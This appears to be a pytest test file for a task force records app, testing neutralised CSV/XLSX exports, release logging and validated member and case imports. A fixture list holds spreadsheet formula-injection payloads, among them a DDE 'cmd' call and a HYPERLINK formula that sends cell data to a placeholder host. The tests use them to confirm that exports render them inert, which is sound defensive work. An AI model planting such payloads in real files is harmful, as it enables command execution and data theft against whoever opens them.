"""Data in and out: exports a spreadsheet can never run, logged like a release; imports of
members and cases that land whole or not at all, and never twice."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from taskforce.domain.errors import TaskforceError, ValidationFailed
from taskforce.domain.records import MemberData, SubjectData
from taskforce.reports.export import FORMULA_TRIGGERS, export, inert
from taskforce.services import members, release, stats, subjects
from taskforce.services import record_import as R
from taskforce.services.tx import read
from taskforce.store import schema as S

from tests import factories as f
from tests.test_cli import one_line_error, tf

# what a spreadsheet would run: formulas, a DDE call, and the same behind spaces
DANGEROUS = ["=1+2", "+1-1", "-2+3", "@SUM(1,1)", '=HYPERLINK("http://x.test/?"&A1,"click")',
             "=cmd|' /C calc'!A0", "  =1+1", "-", "=", "#REF!"]


def counts(ctx) -> dict[str, int]:
    with read(ctx) as conn:
        return {t.name: conn.execute(select(func.count()).select_from(t)).scalar_one()
                for t in S.metadata.sorted_tables}


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ",") -> Path:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter).writerows(rows)
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def dangerous_subjects(ctx) -> None:
    for i, name in enumerate(DANGEROUS):
        subjects.create_subject(ctx, SubjectData(kind="person", name=name, nationality=DANGEROUS[-1 - i]))


# --- exports ---------------------------------------------------------------------------------

def test_inert_prefixes_every_formula_trigger():
    for trigger in FORMULA_TRIGGERS:
        assert inert(trigger + "1+1") == "'" + trigger + "1+1"
    assert inert(" \t=1") == "' \t=1"
    assert inert("Vance, Dario") == "Vance, Dario"
    assert inert("") == "" and inert("'quoted") == "'quoted"


def test_csv_export_has_a_bom_and_no_cell_a_spreadsheet_would_run(ctx, tmp_path):
    dangerous_subjects(ctx)
    out = export(ctx, "subjects", tmp_path / "subjects.csv")
    raw = out.path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Name", "Kind", "Date of birth", "Nationality", "Cases"]
    cells = [c for r in rows[1:] for c in r]
    assert len(rows) == 1 + len(DANGEROUS)
    for cell in cells:
        assert not cell.lstrip(" \t\r\n").startswith(FORMULA_TRIGGERS), cell
    names = {r[0] for r in rows[1:]}
    # (the service strips the spaces of "  =1+1"; inert() itself is tested with them above)
    assert {"'=1+2", "'+1-1", "'-2+3", "'@SUM(1,1)", "'=1+1", "'-", "'=", "#REF!"} <= names


def test_xlsx_export_has_no_formula_cell(ctx, tmp_path):
    dangerous_subjects(ctx)
    tf_id = f.best_seattle(ctx)
    f.case(ctx, tf_id, number="=1+1", title="-SUM(A1)")
    for what in ("subjects", "cases"):
        out = export(ctx, what, tmp_path / f"{what}.xlsx")
        sheet = openpyxl.load_workbook(out.path).active
        values = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" \t\r\n").startswith(FORMULA_TRIGGERS), cell.value
                values.append(cell.value)
        if what == "subjects":
            assert "'=cmd|' /C calc'!A0" in values and "'@SUM(1,1)" in values
            # an error code stays the text it is, not an error cell
            ref = next(c for r in sheet.iter_rows() for c in r if c.value == "#REF!")
            assert ref.data_type == "s"
        else:
            assert "'=1+1" in values and "'-SUM(A1)" in values
            assert date(2026, 3, 1) in [v.date() if hasattr(v, "date") else v for v in values]
        assert sheet.freeze_panes == "A2"
        assert sheet.oddHeader.center.text == "UNCLASSIFIED//LAW ENFORCEMENT SENSITIVE"


def test_an_export_is_logged_with_its_items_and_hash(ctx, tmp_path):
    f.member(ctx, "Quill", "Morgan")
    f.member(ctx, "Vance", "Dario")
    out = export(ctx, "members", tmp_path / "members.csv")
    log = release.releases(ctx)[0]
    assert log.id == out.release_id and log.document_kind == "export-members"
    assert log.sha256 == hashlib.sha256(out.path.read_bytes()).hexdigest() == out.sha256
    assert log.included_count == 2 and log.withheld_count == 0
    assert log.file_name == str(out.path.resolve())
    items = release.release_items(ctx, log.id)
    assert sorted(i[0] for i in items) == ["member", "member"] and all(i[2] for i in items)
    agencies = export(ctx, "agencies", tmp_path / "agencies.xlsx")
    assert agencies.rows == stats.stats(ctx)["agencies"] == len(release.release_items(ctx, agencies.release_id))


def test_an_export_that_cannot_be_written_logs_nothing(ctx, tmp_path):
    f.member(ctx)
    before = counts(ctx)
    with pytest.raises(TaskforceError, match="does not exist"):
        export(ctx, "members", tmp_path / "nowhere" / "m.csv")
    with pytest.raises(TaskforceError, match=r"\.csv or \.xlsx"):
        export(ctx, "members", tmp_path / "m.pdf")
    # a name too long is refused before anything is logged (a file that fails later, once
    # logged, leaves its entry marked failed: tests/test_release_pending.py)
    with pytest.raises(TaskforceError, match="cannot be written"):
        export(ctx, "members", tmp_path / ("x" * 300 + ".csv"))
    assert counts(ctx) == before
    # no temporary file left behind either (the database lives in the same folder)
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("taskforce.sqlite")] == []


def test_a_read_only_copy_cannot_export_as_it_cannot_log(ctx, db_path, tmp_path):
    from taskforce.services.context import Context
    from taskforce.store.database import Database

    viewer = Database.open(db_path, read_only=True)  # as when another copy of the app holds the file
    try:
        with pytest.raises(TaskforceError, match="read-only"):
            export(Context(db=viewer, actor=ctx.actor), "agencies", tmp_path / "a.csv")
    finally:
        viewer.close()
    assert not (tmp_path / "a.csv").exists() and release.releases(ctx) == []


# --- imports ---------------------------------------------------------------------------------

MEMBER_HEADER = ["Surname", "First name", "Rank", "Home agency", "E-mail"]


def test_a_bad_row_refuses_the_whole_file_with_every_line(ctx, tmp_path):
    path = write_csv(tmp_path / "m.csv", [
        MEMBER_HEADER,
        ["Quill", "Morgan", "CBP Officer", "CBP OFO", "m.quill@cbp.dhs.gov"],
        ["Vance", "Dario", "", "Nowhere PD", ""],
        ["", "Ana", "", "ICE HSI", "not-an-address"],
        ["Cruz", "Ana", "", "icE hsi", ""],
    ])
    before = counts(ctx)
    with pytest.raises(R.ImportRejected) as refused:
        R.import_file(ctx, path, "members")
    rejected = {r.line: r.reason for r in refused.value.rejected}
    assert set(rejected) == {3, 4}
    assert "no agency called 'Nowhere PD'" in rejected[3]
    assert "Family name is required." in rejected[4] and "E-mail must look like" in rejected[4]
    assert "lines 3, 4" in str(refused.value) and "nothing was imported" in str(refused.value)
    assert counts(ctx) == before
    # the preview says the same, writing nothing
    pv = R.preview(ctx, path, "members")
    assert [p.split(":")[0] for p in pv.problems] == ["line 3", "line 4"]
    assert pv.mapping == {"Surname": "family_name", "First name": "given_names", "Rank": "rank_title",
                          "Home agency": "home_agency", "E-mail": "email"}
    assert counts(ctx) == before


def test_members_import_then_a_rerun_adds_nothing(ctx, tmp_path):
    hsi_sea = f.agency(ctx, "ICE HSI Seattle", "federal", abbreviation="HSI SEA", ori="WA0000000")
    path = write_csv(tmp_path / "m.csv", [
        MEMBER_HEADER,
        ["Quill", "Morgan", "CBP Officer", "CBP OFO", "m.quill@cbp.dhs.gov"],
        ["Vásquez", "Ana", "Special Agent", "wa0000000", ""],
        ["Vance", "Dario", "", "Homeland Security Investigations (formerly Office of Investigations)", ""],
    ])
    result = R.import_file(ctx, path, "members")
    assert result.added == 3 and result.skipped == ()
    with read(ctx) as conn:
        rows = conn.execute(select(S.member.c.family_name, S.member.c.home_agency_id)
                            .order_by(S.member.c.id)).all()
    assert [r[0] for r in rows] == ["Quill", "Vásquez", "Vance"] and rows[1][1] == hsi_sea
    before = counts(ctx)
    again = R.import_file(ctx, path, "members")
    assert again.added == 0 and [s.line for s in again.skipped] == [2, 3, 4]
    assert "already a member" in again.skipped[0].reason
    assert counts(ctx) == before
    assert "skipped 3" in again.summary()


def test_an_exported_member_list_imports_back_as_already_recorded(ctx, tmp_path):
    f.member(ctx, "Quill", "Morgan")
    f.member(ctx, "=Evil", "Eve")
    for fmt in ("csv", "xlsx"):
        out = export(ctx, "members", tmp_path / f"members.{fmt}")
        pv = R.preview(ctx, out.path, "members")
        assert pv.mapping["Name"] == "name" and pv.mapping["Home agency"] == "home_agency"
        assert pv.mapping["In force"] is None and pv.mapping["Expired"] is None
        # "'=Evil" comes back with its quote: a different name, added rather than run
        assert pv.problems == () and len(pv.skipped) == 1


def test_cases_import_from_xlsx_then_a_rerun_is_refused_by_number(ctx, tmp_path):
    f.best_seattle(ctx)
    path = write_xlsx(tmp_path / "cases.xlsx", [
        [None],  # a blank first row: line numbers are the sheet's row numbers
        ["Case #", "Title", "Task force", "Lead agency", "Opened", "Status", "Priority", "Statutes"],
        ["BEST-SEA-2026-0101", "Fentanyl via Blaine", "best seattle", "HSI SEA", date(2026, 3, 1), "Open", "High",
         "Title 21, 18"],
        [20260102, "Numbered in a spreadsheet", "BEST Seattle", "ICE HSI", "2026-03-02", "", "", ""],
    ])
    result = R.import_file(ctx, path, "cases")
    assert result.added == 2 and "case_file" in result.change.kinds
    with read(ctx) as conn:
        got = conn.execute(select(S.case.c.number, S.case.c.opened_on, S.case.c.priority, S.case.c.status)
                           .order_by(S.case.c.id)).all()
        statutes = sorted(conn.execute(select(S.case_statute.c.statute)).scalars())
    assert got == [("BEST-SEA-2026-0101", date(2026, 3, 1), "high", "open"),
                   ("20260102", date(2026, 3, 2), "normal", "open")]
    assert statutes == ["18", "21"]
    before = counts(ctx)
    with pytest.raises(R.ImportRejected) as refused:
        R.import_file(ctx, path, "cases")
    assert [(r.line, r.reason) for r in refused.value.rejected] == [
        (3, "Case number BEST-SEA-2026-0101 is already in use."), (4, "Case number 20260102 is already in use.")]
    assert counts(ctx) == before


def test_case_rows_are_checked_like_the_form(ctx, tmp_path):
    f.best_seattle(ctx)
    header = ["Number", "Title", "Task force", "Lead agency", "Opened", "Closed", "Status"]
    path = write_csv(tmp_path / "c.csv", [
        header,
        ["A-1", "Good", "BEST Seattle", "ICE HSI", "2026-03-01", "", ""],
        ["A-1", "Twice", "BEST Seattle", "ICE HSI", "2026-03-01", "", ""],
        ["A-2", "Bad date", "BEST Seattle", "ICE HSI", "03/01/2026", "", ""],
        ["A-3", "No such task force", "JTTF Mars", "ICE HSI", "2026-03-01", "", ""],
        ["A-4", "Closed before opened", "BEST Seattle", "ICE HSI", "2026-03-01", "2026-01-01", "closed"],
        ["A-5", "Year typo", "BEST Seattle", "ICE HSI", "0202-03-01", "", "sleeping"],
        ["A-6" + "9" * 40, "Too long", "BEST Seattle", "ICE HSI", "2026-03-01", "", ""],
    ])
    with pytest.raises(R.ImportRejected) as refused:
        R.import_file(ctx, path, "cases")
    reasons = {r.line: r.reason for r in refused.value.rejected}
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8]
    assert reasons[3] == "Case number A-1 is already on line 2."
    assert "'03/01/2026' is not a date written YYYY-MM-DD" in reasons[4]
    assert reasons[5] == "No task force called 'JTTF Mars'."
    assert "Closed must not be before opened." in reasons[6]
    assert "between 1800 and 2199" in reasons[7] and "Status 'sleeping'" in reasons[7]
    assert "Case number is longer than 40 characters." in reasons[8]
    assert stats.stats(ctx)["cases"] == 0


def test_a_mapping_override_maps_what_the_headers_do_not_say(ctx, tmp_path):
    path = write_csv(tmp_path / "fr.csv", [
        ["Nom", "Prénom", "Service", "Notes"],
        ["Gagnon", "Chantal", "RCMP", "ignore me"],
    ], delimiter=";")
    pv = R.preview(ctx, path, "members")
    assert pv.headers == ("Nom", "Prénom", "Service", "Notes")
    assert any("family name" in p for p in pv.problems)
    with pytest.raises(R.ImportRefused, match="family name"):
        R.import_file(ctx, path, "members")
    mapping = {"nom": "family_name", "Prénom": "given_names", "Service": "home_agency", "Notes": ""}
    pv = R.preview(ctx, path, "members", mapping)
    assert pv.problems == () and pv.mapping["Notes"] is None and pv.mapping["Nom"] == "family_name"
    assert R.import_file(ctx, path, "members", mapping).added == 1
    # a mapping naming what is not there is refused, not ignored
    for bad, message in (({"Surname": "family_name"}, "no column 'Surname'"),
                         ({"Nom": "shoe_size"}, "'shoe_size' is not a field"),
                         ({"Nom": "family_name", "Prénom": "family_name"}, "both give Family name")):
        assert any(message in p for p in R.preview(ctx, path, "members", bad).problems), bad


def test_files_that_are_not_utf8_csv_or_xlsx_are_refused_in_a_sentence(ctx, tmp_path):
    rows = [MEMBER_HEADER, ["Müller", "Jörg", "", "CBP OFO", ""]]
    latin = write_csv(tmp_path / "latin.csv", rows, encoding="latin-1")
    with pytest.raises(R.ImportRefused, match="not UTF-8 text.*CSV UTF-8"):
        R.import_file(ctx, latin, "members")
    utf16 = write_csv(tmp_path / "utf16.csv", rows, encoding="utf-16")
    with pytest.raises(R.ImportRefused, match="UTF-16"):
        R.import_file(ctx, utf16, "members")
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(R.ImportRefused, match="cannot be read as a spreadsheet"):
        R.import_file(ctx, fake, "members")
    pdf = tmp_path / "x.pdf"
    pdf.write_bytes(b"%PDF-1.4")
    with pytest.raises(R.ImportRefused, match="neither CSV nor XLSX"):
        R.import_file(ctx, pdf, "members")
    with pytest.raises(R.ImportRefused, match="header but no data"):
        R.import_file(ctx, write_csv(tmp_path / "h.csv", [MEMBER_HEADER]), "members")
    # UTF-8 with and without a BOM are the same file
    for name, encoding in (("bom.csv", "utf-8-sig"), ("plain.csv", "utf-8")):
        assert R.preview(ctx, write_csv(tmp_path / name, rows, encoding=encoding), "members").problems == ()
    assert R.import_file(ctx, tmp_path / "bom.csv", "members").added == 1


def test_imported_text_is_cleaned_like_typed_text(ctx, tmp_path):
    # "e" + combining acute (NFD), a right-to-left override and a zero-width space in the name
    path = write_csv(tmp_path / "m.csv", [MEMBER_HEADER, ["Ve\u0301lez\u202e", "\u200bAna", "", "CBP\tOFO", ""],
                                          ["V\u00e9lez", "Ana", "", "cbp ofo", ""]])
    with pytest.raises(R.ImportRejected) as refused:  # once cleaned, the two rows are one person
        R.import_file(ctx, path, "members")
    assert [(r.line, r.reason) for r in refused.value.rejected] == [
        (3, "Vélez, Ana (CBP OFO — Office of Field Operations) is already on line 2.")]
    path = write_csv(tmp_path / "m.csv", [MEMBER_HEADER, ["Ve\u0301lez\u202e", "\u200bAna", "", "CBP\tOFO", ""]])
    R.import_file(ctx, path, "members")
    with read(ctx) as conn:
        assert conn.execute(select(S.member.c.family_name, S.member.c.given_names)).one() == ("V\u00e9lez", "Ana")


def test_services_enforce_column_lengths_naming_the_field(ctx):
    ofo = f.ref_agency(ctx, "cbp_ofo")
    before = counts(ctx)
    with pytest.raises(ValidationFailed) as err:
        members.create_member(ctx, MemberData(family_name="Q" * 101, given_names="M", home_agency_id=ofo,
                                              phone="5" * 51))
    assert err.value.for_field("family_name") == "Family name is longer than 100 characters."
    assert err.value.for_field("phone") == "Phone is longer than 50 characters."
    with pytest.raises(ValidationFailed, match="Name is longer than 200 characters."):
        subjects.create_subject(ctx, SubjectData(kind="person", name="N" * 201))
    with pytest.raises(ValidationFailed, match="Date of birth must be a date between 1800 and 2199"):
        subjects.create_subject(ctx, SubjectData(kind="person", name="Old", dob=date(1, 1, 1)))
    assert counts(ctx) == before


# --- the command line ------------------------------------------------------------------------

def test_cli_export_and_import(tmp_path):
    db = tmp_path / "cli.sqlite"
    assert tf("--db", db, "demo", "--cases", 20).returncode == 0
    for fmt in ("csv", "xlsx"):
        done = tf("--db", db, "export", "members", "-o", tmp_path / f"m.{fmt}")
        assert done.returncode == 0, done.stderr
        assert "SHA-256" in done.stdout
    assert "must be a .csv or .xlsx" in one_line_error(tf("--db", db, "export", "cases", "-o", tmp_path / "c.pdf"))
    assert "export-members" in tf("--db", db, "releases").stdout
    again = tf("--db", db, "import", "members", tmp_path / "m.xlsx")
    assert again.returncode == 0, again.stderr
    assert "added 0 members, skipped 30" in again.stdout and "already a member" in again.stdout

    bad = write_csv(tmp_path / "bad.csv", [["Nom", "Prénom", "Agence"], ["Roy", "Luc", "RCMP"], ["Roy", "Léa", "Mars"]])
    refused = tf("--db", db, "import", "members", bad, "--map", "Nom=family_name", "--map", "Prénom=given_names",
                 "--map", "Agence=home_agency")
    assert "1 row of bad.csv cannot be imported (line 3)" in one_line_error(refused)
    assert "line 3: Home agency: no agency called 'Mars'." in refused.stdout
    dry = tf("--db", db, "import", "members", bad, "--dry-run")
    assert "cannot be imported as it is" in one_line_error(dry) and "family name" in dry.stdout
    assert "Column=field" in one_line_error(tf("--db", db, "import", "members", bad, "--map", "nonsense"))


# --- the dialog ------------------------------------------------------------------------------

def test_import_dialog_previews_lets_the_user_map_and_imports(qtbot, ctx, tmp_path):
    from PySide6.QtCore import Qt

    from taskforce.gui.record_import_dialog import RecordImportDialog
    from taskforce.gui.worker import Worker

    path = write_csv(tmp_path / "fr.csv", [["Nom", "Prénom", "Agence", "Remarque"],
                                           ["Gagnon", "Chantal", "RCMP", "x"], ["Roy", "Luc", "CBSA", "y"]])
    worker = Worker()
    dialog = RecordImportDialog(ctx, worker, None, "members", str(path))
    qtbot.addWidget(dialog)
    dialog.show()
    qtbot.waitUntil(lambda: dialog.preview is not None, timeout=10000)
    assert dialog.table.columnCount() == 4 and dialog.table.rowCount() == 3  # the field row + 2 lines
    assert dialog.table.item(1, 0).text() == "Gagnon"
    assert not dialog.import_button.isEnabled() and dialog.problems.count() == 3  # three required fields
    for col, key in enumerate(("family_name", "given_names", "home_agency")):
        combo = dialog.table.cellWidget(0, col)
        combo.setCurrentIndex(combo.findData(key))
    qtbot.waitUntil(dialog.import_button.isEnabled, timeout=10000)
    assert "2 to add" in dialog.status.text() and dialog.problems.count() == 0
    with qtbot.waitSignal(dialog.imported, timeout=20000) as done:
        qtbot.mouseClick(dialog.import_button, Qt.MouseButton.LeftButton)
    assert "member" in done.args[0].kinds
    assert stats.stats(ctx)["members"] == 2 and not dialog.isVisible()
    worker.wait()
